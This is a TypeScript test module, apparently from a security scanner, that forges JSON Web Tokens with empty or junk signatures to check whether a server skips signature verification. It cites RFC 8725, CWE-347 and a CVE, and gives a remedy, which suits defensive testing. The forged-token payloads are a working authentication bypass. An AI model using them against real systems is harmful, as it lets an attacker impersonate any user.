import { assemble, readToken } from '../../kit/forge-token.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

export default tokenAttack({
  id: 'token/sig-empty',
  rows: ['token.sig-empty'],
  title: 'A token under its real algorithm with an empty signature',
  requirement: 'RFC 8725 section 3.3: every cryptographic operation is validated, an absent signature fails',
  impact: 'The check is skipped when there is nothing to check: anyone becomes any user.',
  remedy: 'Call jwt.verify on the whole token and do not make the check depend on the signature being there.',
  severity: 'critical',
  cwe: ['CWE-347'],
  references: ['RFC 8725 section 3.3', 'ASVS V6.8.2', 'CVE-2020-28042'],
  provenBy: 'empty-sig',
  forge({ victim }) {
    const { header, payload } = readToken(victim.token)
    return [
      { name: 'empty signature', token: assemble(header, payload, '') },
      { name: 'padding only as signature', token: assemble(header, payload, '==') },
      { name: 'a blank as signature', token: assemble(header, payload, ' ') },
      { name: 'one character as signature', token: assemble(header, payload, 'A') },
      { name: 'the word null as signature', token: assemble(header, payload, 'null') },
      { name: 'the word undefined as signature', token: assemble(header, payload, 'undefined') },
    ]
  },
})
